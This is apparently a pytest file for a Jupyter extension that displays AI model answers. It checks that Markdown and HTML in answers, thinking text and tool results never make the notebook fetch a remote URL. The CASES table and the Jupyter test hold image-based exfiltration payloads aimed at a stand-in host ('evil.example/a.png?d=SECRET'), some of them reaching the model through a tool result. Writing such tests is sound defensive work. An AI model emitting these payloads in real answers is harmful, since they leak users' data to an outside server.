"""Nothing an answer says makes the front end fetch a remote URL (remote_images = "off").

The published Markdown is what a front end renders and what a saved notebook
keeps, so it is checked there: no remote image, no fetching HTML, tool results
always literal.  ``tests/browser/test_lab_remote_images.py`` checks it in
JupyterLab with a real browser and a local "remote" server.
"""

from __future__ import annotations

import pytest

from kuroryuu_magic.agent._steps import Step, step_markdown
from kuroryuu_magic.ask.display import answer_bundle, thinking_markdown
from kuroryuu_magic.ask.remote import guard_remote
from kuroryuu_magic.testing import Reply

EVIL = "https://evil.example/a.png?d=SECRET"

CASES = {
    "inline image": (f"Look ![chart]({EVIL}) here", "![chart]("),
    "reference image": (f"Look ![chart][r]\n\n[r]: {EVIL}", "![chart][r]"),
    "shortcut reference": (f"Look ![r]\n\n[r]: {EVIL}", "![r]\n"),
    "protocol-relative": ("Look ![x](//evil.example/a.png)", "![x]("),
    "html img": (f'<img src="{EVIL}">', "<img"),
    "entity-hidden scheme": ('<img src="ht&#116;ps://evil.example/a.png">', "<img"),
    "picture srcset": (f'<picture><source srcset="a.png 1x, {EVIL} 2x"></picture>', "<source"),
    "css url": (f'<div style="background:url({EVIL})">x</div>', "<div"),
    "style element": (f"<style>p{{background:url({EVIL})}}</style>", "<style"),
    "video poster": (f'<video poster="{EVIL}"></video>', "<video"),
    "iframe": (f'<iframe src="{EVIL}"></iframe>', "<iframe"),
}


@pytest.mark.parametrize("case", list(CASES))
def test_answer_markdown_carries_no_remote_fetch(case):
    text, live = CASES[case]
    markdown = answer_bundle(text, "markdown")["text/markdown"]
    assert live not in markdown
    if "![" in text:
        assert "(not loaded from evil.example)" in markdown  # a link naming the host
    assert answer_bundle(text, "markdown")["text/plain"] == text  # the answer itself is kept
    assert answer_bundle(text, "markdown", remote="on")["text/markdown"] == text


def test_data_images_relative_urls_links_and_code_are_kept():
    for text in (
        "![dot](data:image/png;base64,iVBORw0KGgo=)",
        '<img src="data:image/png;base64,iVBORw0KGgo=">',
        "![local](plots/a.png)",
        '<a href="https://example.com">docs</a> and <span style="color:red">red</span>',
        f"`![x]({EVIL})` and\n\n```html\n<img src='{EVIL}'>\n```\n",
    ):
        assert guard_remote(text) == text


def test_thinking_images_are_not_loaded_either():
    markdown = thinking_markdown(f"plan\n\n![x]({EVIL})", done=True)
    assert "![x](" not in markdown and "not loaded from evil.example" in markdown


def test_a_blank_line_in_a_tool_result_keeps_the_step_literal():
    step = Step("describe", {"name": "df"}, result=f"row 1\n\n![x]({EVIL})\n\n# Title", seconds=0.1)
    markdown = step_markdown(step)
    # One HTML block: no blank line lets the rest become live Markdown.
    assert "\n" not in markdown
    assert "&#10;&#10;![x]" in markdown  # shown as text inside the <pre>


def test_jupyter_answer_and_steps_publish_no_remote_fetch(fresh_kernel, server):
    """What the kernel publishes is what a saved notebook keeps."""
    fresh_kernel.ok("import pandas as pd\ndf = pd.DataFrame({'x': ['![p](" + EVIL + ")', '']})")
    server.enqueue(Reply.call("describe", {"name": "df"}, text=f"First ![a]({EVIL})"))
    server.enqueue(Reply(text=f'Done <img src="{EVIL}"> ![b][r]\n\n[r]: {EVIL}'))
    run = fresh_kernel.ok("%%claude --tools\nLook")
    markdown = run.text("text/markdown")
    assert "Done" in markdown and "First" in markdown
    for live in ("![a](", "<img", "![b][r]"):
        assert live not in markdown
    fresh_kernel.ok("%config ClaudeMagics.remote_images = 'on'")
    try:
        server.enqueue(Reply(text=f"Now ![c]({EVIL})"))
        on = fresh_kernel.ok("%%claude\nAgain").text("text/markdown")
    finally:
        fresh_kernel.ok("%config ClaudeMagics.remote_images = 'off'")
    assert f"![c]({EVIL})" in on
